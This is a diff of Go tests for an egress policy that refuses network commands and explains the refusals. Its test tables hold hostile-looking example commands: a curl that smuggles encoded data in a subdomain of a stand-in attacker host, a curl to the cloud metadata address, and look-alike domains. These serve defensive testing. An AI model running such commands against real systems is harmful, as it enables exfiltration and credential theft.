@@ -70,7 +70,7 @@ func newNetWorld(t *testing.T) *netWorld {
 			routes[net.JoinHostPort(a, "443")] = secure
 		}
 	}
-	pol, err := egress.NewPolicy(egress.PolicyConfig{Allow: allow, Resolver: dns.Resolver(), Dial: routes.Dial})
+	pol, err := egress.NewPolicy(egress.PolicyConfig{Allow: allow, Deny: []string{"blocked.allowed.test"}, Resolver: dns.Resolver(), Dial: routes.Dial})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -283,6 +283,8 @@ func TestNetworkRefused(t *testing.T) {
 		{"curl look-alike suffix", ex, cmd("curl -sS https://allowed.test.evil.example/"), "allowed.test.evil.example", egress.NotListed, ""},
 		{"curl look-alike prefix", ex, cmd("curl -sS https://evilallowed.test/"), "evilallowed.test", egress.NotListed, ""},
 		{"curl exfiltration in the name", ex, cmd("curl -sS https://c2VjcmV0.attacker.example/x"), "c2vjcmv0.attacker.example", egress.NotListed, ""},
+		{"curl denied by a rule", ex, cmd("curl -sS https://blocked.allowed.test/"), "blocked.allowed.test", egress.Denied, "blocked.allowed.test"},
+		{"git denied by a rule", ex, cmd("git ls-remote http://BLOCKED.allowed.test./repo.git"), "blocked.allowed.test", egress.Denied, "blocked.allowed.test"},
 		{"curl port", ex, cmd("curl -sS http://allowed.test:8080/"), "allowed.test", egress.PortNotAllowed, ""},
 		{"curl https port", ex, cmd("curl -sS --cacert ca.pem https://allowed.test:8443/"), "allowed.test", egress.PortNotAllowed, ""},
 		{"curl metadata IP", ex, cmd("curl -sS http://169.254.169.254/latest/meta-data/"), "169.254.169.254", egress.IPLiteral, ""},
@@ -431,6 +433,7 @@ func TestEgressError(t *testing.T) {
 		{[]EgressFailure{{Host: "evil.example", Port: 443, Reason: "not_listed"}}, tool.PermissionDenied, "evil.example",
 			"connection to evil.example refused: not on the allow list (allowed: pypi.org, *.github.com)"},
 		{[]EgressFailure{{Host: "pypi.org", Port: 8080, Reason: "port_not_allowed", Rule: "pypi.org", Detail: "the host is allowed on port(s) 80, 443 only"}}, tool.PermissionDenied, "pypi.org", "pypi.org:8080 refused"},
+		{[]EgressFailure{{Host: "bad.github.com", Port: 443, Reason: "denied", Rule: "bad.github.com"}}, tool.PermissionDenied, "bad.github.com", `the policy denies it (rule "bad.github.com")`},
 		{[]EgressFailure{{Host: "10.0.0.1", Port: 80, Reason: "ip_literal"}}, tool.PermissionDenied, "10.0.0.1", "an IP address as host"},
 		{[]EgressFailure{{Host: "x.github.com", Port: 443, Reason: "private_address", Rule: "*.github.com", Detail: "x.github.com resolves to 10.0.0.1 (a private address)"}},
 			tool.PermissionDenied, "x.github.com", `resolves to 10.0.0.1 (a private address) (the name is allowed by "*.github.com"`},
